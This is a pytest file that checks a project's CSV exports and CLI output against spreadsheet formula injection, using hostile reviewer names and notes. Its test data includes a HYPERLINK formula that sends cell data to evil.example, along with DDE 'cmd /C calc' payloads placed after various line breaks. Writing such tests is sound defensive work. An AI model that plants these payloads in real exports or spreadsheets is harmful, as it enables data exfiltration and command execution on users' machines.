"""Spreadsheet formula injection through the CSV exports: a reviewer name or note saved
from the page, then every CSV the project writes (``/history.csv`` from a real server,
``results export`` and ``results list --csv`` as a user runs them) read back with the
csv module and as raw bytes split on every line break: the formula starts are defused
on every line of a cell (issue 51: a CR inside a note started a new record), the
numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlencode

import pytest

from padformer_edge.store.csv_cells import FORMULA_STARTS, SafeDictWriter, safe_cell
from padformer_edge.web.server import WebServer
from tests.cli_process import REPO, run_cli
from tests.web.client import request
from tests.web.site import Site

HOSTILE = {
    "reviewer": '=HYPERLINK("http://evil.example/?"&A1, "open me")',
    # every kind of line break, each followed by a formula start (the audit's case first;
    # then issue 60's: the rest of what str.splitlines breaks on)
    "note": "+cmd|' /C calc'!A0\r=cmd|' /C calc'!A0\n@SUM(1)\r\n-2+3\r\r\t=1"
    "\u2028=2\x85+3\x0b@4\x0c-5\x1c=6\x1d=7\x1e=8\u2029=9",
}
DEFUSED_NOTE = (
    "'+cmd|' /C calc'!A0\n'=cmd|' /C calc'!A0\n'@SUM(1)\n'-2+3\n\n'\t=1"
    "\n'=2\n'+3\n'@4\n'-5\n'=6\n'=7\n'=8\n'=9"
)
NUMBER_COLUMNS = ("id", "score", "threshold", "detect_ms", "size_bytes", "profile_version")
# Every character str.splitlines breaks a line on, asked of Python itself.
SEPARATORS = [chr(c) for c in range(0x3000) if len(f"a{chr(c)}b".splitlines()) == 2]


@pytest.mark.parametrize("start", [s for s in FORMULA_STARTS if s != "\r"])
def test_every_formula_start_is_defused_and_plain_text_is_not(start: str) -> None:
    assert safe_cell(f"{start}SUM(1,2)") == f"'{start}SUM(1,2)"
    assert safe_cell(f"cam{start}1") == f"cam{start}1"
    assert safe_cell(-0.5) == -0.5 and safe_cell(7) == 7 and safe_cell(None) is None


def test_every_line_separator_python_knows_is_a_line_break_of_a_cell() -> None:
    assert len(SEPARATORS) == 10 and "\u2028" in SEPARATORS  # CRLF is CR then LF
    for separator in [*SEPARATORS, "\r\n"]:
        assert safe_cell(f"ok{separator}=cmd") == "ok\n'=cmd", repr(separator)
        assert safe_cell(f"ok{separator}") == "ok\n", repr(separator)


def test_every_line_of_a_cell_is_defused_and_its_breaks_are_one_lf() -> None:
    assert safe_cell(HOSTILE["note"]) == DEFUSED_NOTE
    assert safe_cell("\r=1") == "\n'=1"  # a leading CR: an empty first line, then defused
    assert safe_cell("a\r\nb\rc") == "a\nb\nc"  # plain lines keep their text


def test_the_writer_quotes_a_line_break_and_needs_an_lf_terminator() -> None:
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["note", "n"], lineterminator="\n")
    writer.writerow({"note": "ok\r=cmd", "n": 1})
    assert out.getvalue() == '"ok\n\'=cmd",1\n'
    with pytest.raises(ValueError, match="line terminator holding LF"):
        SafeDictWriter(io.StringIO(), fieldnames=["note"], lineterminator="\r")


def test_the_writer_defuses_rows_it_writes_one_or_many() -> None:
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name", "score"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": "@evil", "score": -1.25})
    writer.writerows([{"name": "-2+3", "score": 3}])
    assert out.getvalue() == "name,score\n'@evil,-1.25\n'-2+3,3\n"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _raw_lines_are_safe(raw: str) -> None:
    """The target of issues 51 and 60: split on every line break ``str.splitlines`` knows,
    no line begins with = + @ tab or CR, nor with - unless its first cell is a number."""
    for line in raw.splitlines():
        assert not line.startswith(("=", "+", "@", "\t", "\r")), line
        if line.startswith("-"):
            float(line.split(",")[0])  # a negative number, never text


def _check(raw: str, row_id: int, count: int) -> None:
    _raw_lines_are_safe(raw)
    rows = _rows(raw)
    assert len(rows) == count  # the CR split no record
    (hostile,) = [r for r in rows if r["id"] == str(row_id)]
    assert hostile["reviewed_by"] == "'" + HOSTILE["reviewer"]
    assert hostile["review_note"] == DEFUSED_NOTE
    for r in rows:  # no text cell of any row opens as a formula, on any of its lines
        for key, value in r.items():
            if key in NUMBER_COLUMNS:
                assert not value or float(value) == float(value)  # a number or empty
                continue
            assert not any(line.startswith(FORMULA_STARTS) for line in value.split("\n"))
    assert float(hostile["score"]) > 1.0  # the score itself came through unchanged


def test_every_export_defuses_a_hostile_review(server: WebServer, site: Site,
                                               tmp_path: Path) -> None:  # fmt: skip
    row = site.anomalies[0]
    body = urlencode({"verdict": "false_alarm", **HOSTILE}).encode()
    saved = request(server.url, f"/inspections/{row}/review", method="POST",
                    headers={"Origin": server.url}, body=body)  # fmt: skip
    assert saved.status == 200

    listed_json = run_cli("results", "list", "--db", site.db, "--json", "--limit", "1000")
    total = len(json.loads(listed_json.stdout))  # the records every CSV must hold
    history = request(server.url, "/history.csv").body.decode("utf-8")
    _check(history, row, total)

    listed = _cli_bytes("results", "list", "--db", site.db, "--csv", "--limit", "1000")
    _check(listed.decode("utf-8"), row, total)

    out = tmp_path / "export.csv"
    exported = run_cli("results", "export", str(out), "--db", site.db)
    assert exported.returncode == 0, exported.stderr
    _check(out.read_bytes().decode("utf-8"), row, total)

    # The JSON exports escape every line break: no raw line of them starts a formula,
    # and the note reads back as it was saved.
    jsonl = tmp_path / "export.jsonl"
    assert run_cli("results", "export", str(jsonl), "--format", "jsonl",
                   "--db", site.db).returncode == 0  # fmt: skip
    as_json = request(server.url, "/history.json").body.decode("utf-8")
    for raw in (listed_json.stdout, as_json, jsonl.read_text()):
        for line in raw.splitlines():
            assert not line.lstrip().startswith(FORMULA_STARTS), line
    notes = {r["review_note"] for r in json.loads(as_json) if r["id"] == row}
    assert notes == {HOSTILE["note"]}


def _cli_bytes(*args: str) -> bytes:
    """The CLI's stdout as bytes: text mode would turn a lone CR into a line feed."""
    env = {**os.environ, "PYTHONPATH": str(REPO), "OMP_NUM_THREADS": "1"}
    done = subprocess.run([sys.executable, "-m", "padformer_edge", *args], capture_output=True,
                          env=env, timeout=120, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done.stdout
